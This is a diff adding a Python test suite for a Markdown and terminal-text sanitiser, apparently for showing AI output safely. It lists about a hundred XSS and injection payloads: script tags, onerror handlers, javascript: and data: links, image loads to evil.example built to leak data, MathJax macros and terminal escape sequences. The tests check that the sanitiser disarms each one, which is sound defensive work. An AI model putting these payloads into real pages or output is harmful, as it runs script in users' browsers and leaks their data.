@@ -1,0 +1,472 @@
+"""Hostile Markdown cannot act, and harmless Markdown reads the same."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from glm_magic.display import safe_text
+from glm_magic.display.segments import Segments
+
+TAGS = "br|sub|sup|kbd|b|i|em|strong|u|s|del|ins|mark|small|pre|code"
+ALLOWED_TAG = re.compile(rf"</?(?:{TAGS})\s*/?>", re.IGNORECASE)
+WEB = re.compile(r"(?:https?://|mailto:)[^\s\"'$\\<>`]*(?:[ \t]+[\"'][^\n\"<>`$\\]*[\"'])?[ \t]*\)", re.IGNORECASE)
+WEB_DEFINITION = re.compile(r"[ \t]*https?://[^\s\"'$\\<>`]+", re.IGNORECASE)
+MACRO = re.compile(r"\\(?:href|url|cssId|class|style|data|bbox|require|html\w*|def|let|newcommand|mmlToken)(?![a-z])")
+MATHS = re.compile(r"\$|\\[!-/:-@\[-`{-~]|\\begin\{")
+FENCE_LINE = re.compile(r"^[\s>*+\-\d.)]*(`{3,}[^`\n]*$|~~~.*)", re.MULTILINE)
+BREAKOUT = '"onmouseover="alert(1)" x="'
+
+
+def outside_fences(text: str) -> list[str]:
+    """The lines that are in no canonical fenced block: column 0, closed, and blank lines on both sides."""
+    lines = [*text.split("\n"), ""]
+    rest, at = [], 0
+    while at < len(lines):
+        opening = re.fullmatch(r"(`{3,})[\w+#.{}=\- ]*", lines[at])
+        if opening and (at == 0 or not lines[at - 1].strip()) and opening[1] in lines[at + 1 :]:
+            close = lines.index(opening[1], at + 1)
+            if not lines[close + 1].strip():
+                at = close + 1
+                continue
+        rest.append(lines[at])
+        at += 1
+    return rest
+
+
+def faults(shown: str) -> list[str]:
+    """What could act in `shown`: by a scan of its lines, and by a whole parse as CommonMark with HTML."""
+    found = []
+    prose = "\n".join(outside_fences(shown))
+    if tag := re.search(r"<[a-zA-Z/!?]\S*", ALLOWED_TAG.sub("+", prose)):
+        found.append(f"tag {tag[0]}")
+    found += ["image"] * prose.count("![")
+    found += [f"target {t}" for t in re.findall(r"\]\((.*)", prose) if not WEB.match(t)]
+    found += [f"definition {t}" for t in re.findall(r"\]:(.*)", prose) if not WEB_DEFINITION.match(t)]
+    found += [f"address {run}" for run in re.findall(r"(?i)(?:://|www\.)\S*", prose) if MATHS.search(run)]
+    for run in FENCE_LINE.findall(prose):
+        found += [f"fence {run}"] * bool(MATHS.search(run) or re.match(r"[`~]+[ \t]*mermaid", run, re.IGNORECASE))
+    found += [f"macro {m}" for m in MACRO.findall(prose)]
+    for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(shown):
+        for token in [block, *(block.children or [])]:
+            if token.type in ("html_block", "html_inline") and re.search(
+                r"<[a-zA-Z/!?]", ALLOWED_TAG.sub("+", token.content)
+            ):
+                found.append(f"HTML {token.content}")
+            if token.type == "image":
+                found.append("an image")
+            if token.type == "link_open" and not re.match(
+                r"https?://|mailto:", str(token.attrs["href"]), re.IGNORECASE
+            ):
+                found.append(f"link {token.attrs['href']}")
+            if token.type == "fence" and token.info.strip() == "mermaid":
+                found.append("a diagram")
+    return found
+
+
+ATTACKS = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "script after a slash": "<script/src=//evil.example></script>",
+    "onerror": "<img src=x onerror=alert(1)>",
+    "iframe with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "style": "<style>body{display:none}</style>",
+    "form": '<form action="https://evil.example"><input name=q></form>',
+    "commandlinker": '<a data-commandlinker-command="notebook:run-all">here</a>',
+    "harmless tag with a handler": '<b onmouseover="alert(1)">x</b>',
+    "harmless tag over a line": "<b\nonmouseover=alert(1)>x</b>",
+    "harmless tag that never ends": "a <s>b\n\nc",
+    "svg": "<svg><script>alert(1)</script></svg>",
+    "comment hides": "<!-- --><script>alert(1)</script>-->",
+    "declaration": "<!DOCTYPE html><x>",
+    "processing instruction": "<?x ><script>alert(1)</script>?>",
+    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "unfinished tag": "text <img src=x onerror=alert(1) ",
+    "closing tag": "</div></div><p>",
+    "escaped less-than": "\\<img src=x onerror=alert(1)>",
+    "escaped backslash": "\\\\<img src=x onerror=alert(1)>",
+    "javascript link": "[x](javascript:alert(1))",
+    "javascript with entities": "[x](java&#115;cript&colon;alert(1))",
+    "javascript in angles": "[x](<javascript:alert(1)>)",
+    "javascript in capitals with a tab": "[x](Java\tScript:alert(1))",
+    "javascript on the next line": "[x](\njavascript:alert(1))",
+    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "vbscript link": "[x](vbscript:msgbox)",
+    "file link": "[x](file:///etc/passwd)",
+    "relative link": "[x](../files/evil.html)",
+    "link after an escaped bracket": "[x\\](javascript:alert(1))",
+    "javascript autolink": "<javascript:alert(1)>",
+    "definition": "[x]\n\n[x]: javascript:alert(1)",
+    "definition over lines": "[x]\n\n[x]:\n  javascript:alert(1)",
+    "definition in a quote": "> [x]: javascript:alert(1)\n\n[x]",
+    "definition with a title that breaks out": '[x]: https://a.example/ "$' + BREAKOUT + '$"\n\n[x]',
+    "image": "![x](https://evil.example/leak?q=1)",
+    "image by reference": "![x][y]\n\n[y]: https://evil.example/i.png",
+    "image after an exclamation mark": "!![x](https://evil.example/i.png)",
+    "image after an escaped exclamation mark": "\\![x](https://evil.example/i.png)",
+    "exclamation mark before an autolink": "!<https://evil.example/i.png>",
+    "image within a link": "[![x](https://evil.example/i.png)](https://a.example)",
+    "quotation mark in maths after an address": f"https://a.example/${BREAKOUT}$",
+    "quotation mark in maths after www": f"www.a.example/${BREAKOUT}$",
+    "quotation mark in maths in brackets": f"https://a.example/\\\\({BREAKOUT}\\\\)",
+    "quotation mark in an environment": f"https://a.example/\\begin{{a}}{BREAKOUT}\\end{{a}}",
+    "quotation mark in maths in a target": f"[x](https://a.example/${BREAKOUT}$)",
+    "quotation mark in maths in a title": f'[x](https://a.example "${BREAKOUT}$")',
+    "quotation mark in maths in an autolink": f"<https://a.example/$>{BREAKOUT}$",
+    "quotation mark after a half link": f"](https://a.example)${BREAKOUT}$",
+    "quotation mark after a broken entity": f"&#x24ftp://a.example/$ https://a.example/${BREAKOUT}$",
+    "placeholder in a target": f"$a$ ${BREAKOUT}$ [x](https://a.example/@\\@1@@)",
+    "nested fence's line": f"- ```${BREAKOUT}$\n  code\n  ```",
+    "nested tilde fence's line": f"> ~~~${BREAKOUT}$\n> code\n> ~~~",
+    "autolink within HTML": "<sub>\n<https://onmouseover=alert(1)//>\n",
+    "diagram": '```mermaid\nflowchart LR\n  A@{ img: "https://evil.example/i.png" }\n```',
+    "diagram with an escape": "```mer\\maid\nA\n```",
+    "nested diagram": "- ~~~ mermaid\n  A@{ img: x }\n  ~~~",
+    "diagram in an unfinished fence": "> ```mermaid\n> A",
+    "macro": "$\\href{javascript:alert(1)}{x}$",
+    "macro in text": "\\\\(\\style{position:fixed}{x}\\\\)",
+    "macro after escaped dollars": "\\$\\\\href{javascript:alert(1)}{x}\\$",
+    "macro that redefines": "$$\n\\newcommand{\\x}{y} \\def\\sum{0}\n$$",
+    "macro with an entity": "&#36;\\h&#114;ef{javascript:alert(1)}{x}&#36; &bsol;href",
+    "maths swallows the opening of a nested fence": "- $ a\n  ```\n  $ <img src=x onerror=alert(1)>\n  ```",
+    "maths swallows the opening of a fence": "$a\n```\n$ <img src=x onerror=alert(1)>\n```\n",
+    "maths in brackets swallows a fence": "\\\\(a\n```\n\\\\)<img src=x onerror=alert(1)>\n```\n",
+    "display maths runs into a fence": "a $$ b\n\n```\n$$ <img src=x onerror=alert(1)>\n```\n",
+    "unclosed fence": "```\n<img src=x onerror=alert(1)>",
+    "fence closed by more": "```\na\n`````\n<img src=x onerror=alert(1)>",
+    "fence not closed by tildes": "```\na\n~~~\n```\n<img src=x onerror=alert(1)>",
+    "fence with a backtick in its line": "``` a`b\n<img src=x onerror=alert(1)>\n```",
+    "fence in an HTML block": "<div>\n```\n</div>\n<img src=x onerror=alert(1)>\n```",
+    "fence four columns in": "    ```\n<img src=x onerror=alert(1)>\n    ```",
+    "fence behind a tab": "\t```\n<img src=x onerror=alert(1)>\n\t```",
+    "fence in a list that ends": "- ```\n<img src=x onerror=alert(1)>\n  ```",
+    "fence in a quote that ends": "> ```\n<img src=x onerror=alert(1)>\n> ```",
+    "fence's line breaks out": '```py"onmouseover="alert(1)\nx\n```\n<x>',
+    "code span over cells": "| a | b |\n|---|---|\n| ` | ` <img src=x onerror=alert(1)> |",
+    "code span with a pipe": "| a | b |\n|---|---|\n| `<img src=x|onerror=alert(1)>` |",
+    "code span over a paragraph": "`a\n\n<img src=x onerror=alert(1)>`",
+    "code span of two lengths": "``a` <img src=x onerror=alert(1)> ``` b``",
+    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
+    "code span with a breakout": f"``https://a.example/``${BREAKOUT}$ `x",
+    "CRLF": "```\r\na\r\n```\r\n<img src=x\r\nonerror=alert(1)>",
+    "lone carriage return": "```\ra\r```\r<img src=x onerror=alert(1)>",
+    "control character in a tag": "<\x00img src=x onerror=alert(1)>",
+    "control character in a link": "]\x1b(javascript:alert(1))",
+    "override": "\u202e<img src=x onerror=alert(1)>",
+    "line separator": "```\u2028<img src=x onerror=alert(1)>\u2028```",
+    "indented code that is none": "a\n    <img src=x onerror=alert(1)>",
+    "tag in a heading": "# <img src=x onerror=alert(1)>\n<x>\n===",
+    "half a surrogate": "\ud83d<img src=x onerror=alert(1)>",
+}
+
+
+@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
+def test_an_attack_cannot_act(text):
+    assert faults(safe_text.markdown(text)) == []
+
+
+@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
+def test_an_attack_cannot_act_in_a_list_a_quote_or_after_a_fence(text):
+    for around in (
+        "- a\n\n  {}",
+        "> {}",
+        "```\n<x>\n```\n{}",
+        "{}\n```\n<x>\n```\n",
+        "$ {}\n$",
+        "`{}",
+        "1. {}\n| a |\n|-|\n| {} |",
+    ):
+        assert faults(safe_text.markdown(around.replace("{}", text))) == []
+
+
+def test_most_attacks_would_act_otherwise():
+    assert sum(bool(faults(safe_text.plain(text))) for text in ATTACKS.values()) > len(ATTACKS) * 0.9
+
+
+def test_maths_that_does_not_end_is_text_before_code_that_could_act():
+    shown = safe_text.markdown("a $$ b\n\n```\n$$ <img>\n```\n")
+    assert "$$ b" not in shown
+    assert shown.endswith("```\n$$ <img>\n```\n")
+
+
+# --- what is harmless reads the same
+
+
+class Events(HTMLParser):
+    """The DOM that HTML makes, as a list: text as it is read, tags as they stand."""
+
+    def __init__(self, source: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[object] = []
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, attrs))
+
+    def handle_endtag(self, tag):
+        self.found.append(f"/{tag}")
+
+    def handle_data(self, data):
+        if self.found and isinstance(self.found[-1], str) and self.found[-1].startswith("="):
+            self.found[-1] += data
+        else:
+            self.found.append(f"={data}")
+
+
+def dom(text: str) -> list[object]:
+    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
+    found = [part for part in Events(rendered).found if part == "=" or not isinstance(part, str) or part.strip("= \n")]
+    return [part.rstrip("\n") if isinstance(part, str) else part for part in found]
+
+
+HARMLESS = {
+    "generics in a code span": "Use `List<T>` and `Map<K, V>`.",
+    "HTML in a code span": "The tag `<script>alert(1)</script>` runs, `<img src=x>` loads.",
+    "links in a code span": "Write `[x](y)` or `![x](y)` or `[x]: y`.",
+    "code span of two backticks": "A `` `<b>` `` in it, and `` a ``.",
+    "code span over lines": "A `<b>\nc</b>` there.",
+    "code span with maths": "`$\\href{a}{b}$` and `$$` with <br>",
+    "shell in a code span": "`curl https://a.example/$x` and <br>",
+    "HTML in a fence": "Text\n\n```html\n<script>alert(1)</script>\n\n<p>$x$</p>\n```\n\nmore",
+    "fence without blank lines": "Text\n```js\nif (a<b) x[0](1)\n```\nmore",
+    "tilde fence": "~~~python\nx: List[int]: 3 <T>\n~~~\n",
+    "fence with fences in it": "````markdown\n```html\n<b>\n```\n````\n",
+    "fence that is not closed": "```python\nif a<b:\n    pass",
+    "fence with nothing in it": "```\n```\n<br>",
+    "two fences": "```a\n<x>\n```\n```b\n<y>\n```\n",
+    "indented code": "Text\n\n    a <b> c\n\nmore",
+    "table": "| a | b |\n|:--|--:|\n| `<T>` | a<br>b |\n| `a\\|<b>` | 2 |\n",
+    "nested lists": "- a\n  - b `<T>`\n    1. c\n\n       d\n- e\n",
+    "code in a list": "1. a\n\n   ```\n   if a<b: x\n   ```\n\n2. b\n",
+    "code in a list without HTML": "1. a\n\n   ```python\n   print(1)\n   ```\n\n2. b `<T>`\n",
+    "quote": "> a `<T>`\n> b\n>\n> ```\n> <c>\n> ```\n",
+    "Chinese": "用 `<T>` 表示類型。\n\n- 第一\n- 第二 **粗體**<br>行",
+    "emoji": "👩‍🚀 `<T>` 🎉 <br> 🇨🇭",
+    "unfinished emphasis": "**a `<T>`",
+    "unfinished code span": "a `<br> b",
+    "unfinished table": "| a | b |\n|---|---|\n| `<T>` | <br",
+    "comparison": "a < b and a<5 <br> c <= d <- e",
+    "links": "See [the `<T>` page](https://a.example/x_(y)?a=b&c=d) or [mail](mailto:a@b.example).",
+    "link with a title": 'See [it](https://a.example "A title (so)").',
+    "link by reference": '[a][x] `<T>`\n\n[x]: https://a.example/b\n[y]: https://a.example "T"\n\n[y]',
+    "autolink": "At <https://a.example/b_c?d=1&e=(f)> or <mailto:a@b.example>.",
+    "emphasis": "*a* **b** ***c*** _d_ ~~e~~ `<T>`",
+    "emphasis about code": "**`<T>`** and *`<b>`*: a**`<i>`**b",
+    "harmless tags": "H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd><br/><u>a</u> <b>bold *x*</b>",
+    "headings": "# A `<T>`\n\nB <br>\n===\n\n## C\n---\n",
+    "escapes": "\\*a\\* \\[b\\] \\<br> \\`<br>\\` \\\\ \\!",
+    "entities": "&lt;b&gt; &amp; &#39; &copy; &#x1F600; `<T>`",
+    "brackets and colons": "a[0]: b, `<T>`, [x] : y, [ ] todo, [z]:w",
+    "exclamation marks": "Well!! [a](https://a.example) `<T>`!",
+    "rules": "a `<T>`\n\n---\n\nb\n\n***\n",
+    "dollars": "It costs $5 or $6; `<T>`.",
+    "windows path": "C:\\temp\\x `<T>`",
+}
+
+
+@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
+def test_what_is_harmless_reads_the_same(text):
+    shown = safe_text.markdown(text)
+    assert dom(shown) == dom(text)
+    assert faults(shown) == []
+
+
+UNTOUCHED = {
+    "prose": "Plain prose, *with* emphasis, `code`, and 1 < 2; a <- b; why not!\n\n- a\n- b\n\n> c\n",
+    "maths": "$x^2$, $$\\frac{a}{b} < c$$, \\\\(a\\\\), \\left\\{ x \\right\\} and \\newline \\\\[1\\\\]",
+    "code": "```python\nx = a if b < c else d\n```\n~~~\nx\n~~~\n\n    indented\n",
+    "address": "https://a.example/x?y=z#w and www.b.example",
+    "Chinese": "你好,世界。\n\n| 甲 | 乙 |\n|---|---|\n| 一 | 二 |\n",
+    "unfinished": "```py\nx = 1",
+    "nothing": "",
+}
+
+
+@pytest.mark.parametrize("text", UNTOUCHED.values(), ids=UNTOUCHED.keys())
+def test_what_could_not_act_is_not_touched(text):
+    assert safe_text.markdown(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("$x<y$", "$x< y$"),
+        ("$a_1<b$ and `<T>`", "$a_1< b$ and <code>&#60;T&#62;</code>"),
+        ("$$\na<b\n+ c<d\n$$\n", "$$\na< b\n+ c< d\n$$\n"),
+        ("$$\na<b\n= c<d\n$$\n", "$$\na< b\n= c< d\n$$\n"),
+        (
+            "\\begin{aligned}\na&<b\\\\\n- c&<d\n\\end{aligned}\n",
+            "\\begin{aligned}\na&< b\\\\\n- c&< d\n\\end{aligned}\n",
+        ),
+        ("\\\\(i<n\\\\)", "\\\\(i< n\\\\)"),
+    ],
+)
+def test_less_than_in_maths_stays_maths(text, shown):
+    assert safe_text.markdown(text) == shown
+
+
+def test_an_image_becomes_a_link():
+    assert safe_text.markdown("![a cat](https://a.example/c.png)") == "[image: a cat](https://a.example/c.png)"
+
+
+def test_a_tag_is_shown_as_it_was_written():
+    assert dom(safe_text.markdown("a <div class='x'> b")) == [("p", []), "=a <div class='x'> b", "/p"]
+
+
+def test_a_fence_keeps_its_language():
+    assert safe_text.markdown("```c++ title=x\n#include <a>\n```") == "```c++ title=x\n#include <a>\n```\n"
+
+
+def test_a_diagram_is_shown_as_text():
+    assert safe_text.markdown("```mermaid\nA-->B\n```") == "```text\nA-->B\n```\n"
+
+
+# --- plain text
+
+
+def test_plain_text_has_no_control_characters_but_tab_and_newline():
+    controls = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
+    assert safe_text.plain(f"a{controls}b") == "a\t\nb"
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("\x1b[2Ja", "[2Ja"),
+        ("\x1b]52;c;aGk=\x07a", "]52;c;aGk=a"),
+        ("\x1b]8;;https://evil.example\x1b\\a", "]8;;https://evil.example\\a"),
+        ("a\u202egnp.exe\u2066b\u2069", "agnp.exeb"),
+        ("a\u2028b\u2029c", "abc"),
+        ("a\r\nb\rc", "a\nbc"),
+        ("\ud83d\ude00", "😀"),
+        ("a\ud83d", "a\ufffd"),
+        ("👩‍🚀 \u00e9 漢\t<b>", "👩‍🚀 \u00e9 漢\t<b>"),
+    ],
+)
+def test_plain_text_is_stripped_of_what_acts_upon_a_terminal(text, left):
+    assert safe_text.plain(text) == left
+
+
+# --- properties
+
+FRAGMENTS = [
+    *("<img src=x onerror=alert(1)>", "<script>", "<!--", "-->", "<div>", "</div>", "<b>", "</b>", "<sub>", "<pre>"),
+    *(
+        "<https://a.b/",
+        "<https://a.b>",
+        "<mailto:a@b.c>",
+        "<",
+        ">",
+        '"',
+        "'",
+        "!",
+        "![",
+        "![x](https://a.b/i)",
+        "![x][y]",
+    ),
+    *("`", "``", "```", "````", "~~~", "```python", "```mermaid", "~~~ mermaid", f"```${BREAKOUT}$", "```js"),
+    *(
+        "$",
+        "$$",
+        "\\\\(",
+        "\\\\)",
+        "\\\\[",
+        "\\\\]",
+        "\\begin{a}",
+        "\\end{a}",
+        "{",
+        "}",
+        "\\",
+        "\\$",
+        "@@0@@",
+        "@\\@0@@",
+    ),
+    *("[x](", "[x](javascript:x)", "[x](https://a.b/", '[x](https://a.b "t', "](", ")", "[", "]", "]:", "[y]"),
+    *(
+        "[y]: https://a.b",
+        "[y]: javascript:x",
+        "https://a.b/",
+        "www.a.b/",
+        "&#92;",
+        "&bsol;",
+        "&#114;",
+        "&#x24",
+        "\\href",
+    ),
+    *(
+        "\n",
+        "\n\n",
+        "\n    ",
+        "\n- ",
+        "\n  ",
+        "\n> ",
+        "\n1. ",
+        "\n\t",
+        "\n# ",
+        "\n---\n",
+        "\n|a|b|\n|-|-|\n|",
+        "|",
+        " ",
+        "a",
+    ),
+    *("\r\n", "\r", "\u00a0", "\u202e", "\x1b", "\ud83d", "漢", "*", "_", "x<y", "href"),
+]
+hostile = st.lists(st.sampled_from(FRAGMENTS), max_size=16).map("".join)
+
+
+@settings(max_examples=600, deadline=None)
+@given(hostile)
+def test_no_composition_of_attacks_acts(text):
+    assert faults(safe_text.markdown(text)) == []
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(st.characters(), max_size=200))
+def test_no_text_acts(text):
+    assert faults(safe_text.markdown(text)) == []
+
+
+@settings(max_examples=200, deadline=None)
+@given(hostile)
+def test_what_was_made_safe_stays_safe_when_it_is_made_safe_again(text):
+    assert faults(safe_text.markdown(safe_text.markdown(text))) == []
+
+
+@settings(max_examples=200, deadline=None)
+@given(hostile)
+def test_what_is_shown_can_be_sent(text):
+    safe_text.markdown(text).encode()
+    safe_text.plain(text).encode()
+
+
+@settings(max_examples=200, deadline=None)
+@given(hostile)
+def test_a_cut_falls_where_a_block_of_the_top_level_begins(text):
+    cut = safe_text.last_block_start(text)
+    assert cut == 0 or text[cut - 1] == "\n"
+    blocks = MarkdownIt("commonmark").enable("table").parse(safe_text.plain(text))
+    starts = [t.map[0] for t in blocks if t.map and t.level == 0]
+    assert cut == 0 or text.count("\n", 0, cut) in starts
+
+
+def test_a_cut_counts_the_lines_of_the_text_as_it_came():
+    assert safe_text.last_block_start("a\r\rb\n") == 0
+    assert safe_text.last_block_start("a\rb\r\n\r\nc\r\n") == len("a\rb\r\n\r\n")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(hostile, min_size=1, max_size=6))
+def test_an_answer_in_segments_is_as_safe_as_a_whole_one(pieces):
+    answer = Segments(safe_text.markdown, safe_text.last_block_start)
+    frozen = ""
+    for piece in pieces:
+        answer.add(piece)
+        frozen += "".join(segment.shown for segment in answer.freeze())
+        assert faults(frozen + answer.tail) == []
+    assert faults(frozen + "".join(segment.shown for segment in answer.finish())) == []
